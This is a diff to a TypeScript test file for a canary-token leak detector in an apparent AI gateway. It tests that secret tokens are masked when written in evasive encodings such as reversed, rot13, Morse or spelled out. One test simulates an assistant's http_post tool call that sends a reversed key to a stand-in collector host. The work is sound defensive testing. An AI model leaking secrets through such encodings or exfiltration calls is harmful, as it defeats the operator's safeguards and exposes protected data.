@@ -1,7 +1,8 @@
 // CANARY_TOKEN (src/detectors/leaks/canary.ts): tokens declared in policy, found literally and in the
 // forms a model can be asked to give them in (spelled out, reversed, leetspeak, rot13 and other Caesar
 // shifts, pig latin, Morse code, the spelling alphabet, acrostics, short hex and base64), written here
-// by transforms of the test's own; nothing in benign text; streamed as whole.
+// by transforms of the test's own; nothing in benign text; streamed as whole; masked through the
+// pipeline in streamed answers and in tool-call arguments.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
@@ -14,6 +15,10 @@ import { buildDetector } from '../../src/detectors/registry.ts';
 import { holdPlan } from '../../src/detectors/hold.ts';
 import { compilePolicy } from '../../src/policy/compile.ts';
 import { detectorCorpus } from '../../bench/lib/payloads.ts';
+import { assemblePipeline } from '../../src/pipeline/index.ts';
+import { MemoryAuditSink } from '../../src/pipeline/evaluate.ts';
+import { MemoryApprovalStore } from '../../src/tools/index.ts';
+import { deltasOf, sse, streamExchange } from './stream-exchange.ts';
 
 const ctx: DetectionContext = { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' };
 const MIXED = 'CANARY-7f3a9b2c';
@@ -213,4 +218,37 @@ test('property: the one-pass gates skip only projections that hold no hit (gated
     text = text.slice(from, from + 1 + (b % 200));
     assert.deepEqual(find(text, gatesPassed(gates, gates.set.match(text))), find(text, everything), JSON.stringify(text));
   }), { numRuns: Number(process.env.CANARY_RUNS ?? 1500) });
+});
+
+/** A policy with a canary detector on responses, its findings masked. */
+const CANARY_POLICY = compilePolicy(
+  `version: 1\ndetectors:\n  canary: { type: canary, tokens: ['${MIXED}', '${WORDS}'] }\ndefault:\n  mode: enforce\n  request: { detectors: [] }\n  response:\n    detectors: [canary]\n    findings:\n      CANARY_TOKEN: { action: redact, style: mask }\n`,
+  { source: 'test', baseDir: '.', hmacKey: Buffer.alloc(32, 7) },
+);
+
+test('pipeline, streamed: a token in any form is masked however the answer is chunked, and the answer around it kept', async () => {
+  const forms = [FORMS['spelled out with dashes'](MIXED), FORMS.reversed(WORDS), FORMS.rot13(MIXED), FORMS['Morse code'](WORDS), FORMS['spelling alphabet'](MIXED)];
+  const answer = `Sure. ${forms.join(' and then ')}. That is all I can say.`;
+  for (const cuts of [[], [3, 17, 40, 41, 90, 200, 333], Array.from({ length: 60 }, (_, i) => i * 11)]) {
+    const deltas = cuts.length === 0 ? [answer] : deltasOf(answer, cuts);
+    const { all } = await streamExchange(CANARY_POLICY, 'You are a helpful assistant.', sse(deltas), 37);
+    assert.equal(all, `Sure. ${forms.map(() => '[CANARY_TOKEN]').join(' and then ')}. That is all I can say.`);
+  }
+});
+
+test('pipeline, buffered: a token written backwards in a tool call\'s arguments is masked there too', async () => {
+  const p = assemblePipeline({ policies: { current: () => CANARY_POLICY, close() {} }, audit: new MemoryAuditSink(), approvals: new MemoryApprovalStore() });
+  const ex = p.factory.create({ metadata: {}, observability: false, requestBodyMode: 'BUFFERED', responseBodyMode: 'BUFFERED' });
+  const req = { model: 'gpt-4o', messages: [{ role: 'user', content: 'Send the report.' }] };
+  const args = JSON.stringify({ url: 'https://collector.example/upload', note: `key ${[...WORDS].reverse().join('')}` });
+  const res = { id: 'x', object: 'chat.completion', choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'http_post', arguments: args } }] } }] };
+  await ex.requestHeaders([[':method', 'POST'], [':path', '/v1/chat/completions'], [':authority', 'api.openai.com'], ['content-type', 'application/json']], false);
+  assert.equal((await ex.requestBody(Buffer.from(JSON.stringify(req)), true, 'BUFFERED')).kind, 'continue');
+  await ex.responseHeaders([[':status', '200'], ['content-type', 'application/json']], false);
+  const r = await ex.responseBody(Buffer.from(JSON.stringify(res)), true, 'BUFFERED');
+  ex.close('complete');
+  await p.close();
+  assert.equal(r.kind, 'continue');
+  const body = JSON.parse((r as { body: Buffer }).body.toString('utf8')) as typeof res;
+  assert.deepEqual(JSON.parse(body.choices[0].message.tool_calls[0].function.arguments), { url: 'https://collector.example/upload', note: 'key [CANARY_TOKEN]' });
 });
